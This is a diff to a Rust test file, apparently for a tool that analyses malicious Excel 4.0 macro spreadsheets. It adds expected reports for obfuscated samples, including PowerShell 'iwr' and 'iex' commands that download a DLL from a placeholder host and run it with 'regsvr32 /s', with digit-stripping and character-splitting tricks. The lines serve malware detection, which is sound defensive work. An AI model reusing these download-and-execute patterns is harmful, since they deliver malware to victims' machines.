@@ -105,6 +105,16 @@ fn what_only_running_shows_is_found() {
                 "fetch Macro1!A5 http://files.invalid/a.dll to oxnv1.dll",
             ],
         ),
+        (
+            "run-pattern-replace.xls",
+            &[
+                "run Macro1!A1 EXEC(powershell -c iwr ('h12ttp:/7/fi3les.inv4alid/a.dll' -replace '\\d+','') \
+                 -OutFile a.dll)",
+                "run Macro1!A2 EXEC(powershell -c iex ('regs~vr3%2 /s a.d~~ll' -csplit '[~%]' -join ''))",
+                "fetch Macro1!A1 http://files.invalid/a.dll to a.dll",
+                "run Macro1!A2 regsvr32 /s a.dll",
+            ],
+        ),
         ("run-japan-only.xls", &["run Macro1!A3 EXEC(oxnv1.exe) if GET.WORKSPACE(37)<>81 is FALSE"]),
         (
             "xlm-environment.xls",
@@ -251,5 +261,23 @@ fn procedures_that_a_macro_runs_are_started() {
     };
     let person = || Some("when a person starts the macro".to_owned());
     assert_eq!(conditions("vba-run-by-xlm.xls"), [("run", None), ("delete", None)]);
+    assert_eq!(conditions("vba-run-by-xlm-umlaut.xls"), [("run", None), ("delete", None)]);
     assert_eq!(conditions("vba-not-run-by-xlm.xls"), [("run", person()), ("delete", person())]);
+}
+
+/// An archive in what a macro writes is opened, and the document in it is read and run.
+#[test]
+fn an_archive_that_a_macro_writes_is_read() {
+    let report = report_of("run-writes-archive.xls");
+    let made: Vec<(&str, &str)> = report
+        .parts
+        .iter()
+        .filter(|part| part.path.contains("oxnv1.zip"))
+        .map(|part| (part.path.as_str(), part.kind))
+        .collect();
+    let archive = "run-writes-archive.xls!/Workbook!/..\\oxnv1.zip";
+    let document = format!("{archive}!/list.slk");
+    assert_eq!(made, [(archive, "zip"), (document.as_str(), "slk")]);
+    let run = report.behaviour.iter().find(|effect| effect.kind == "run").unwrap();
+    assert_eq!((run.text.as_str(), run.basis), ("EXEC(oxnv2.exe)", "evaluated"));
 }
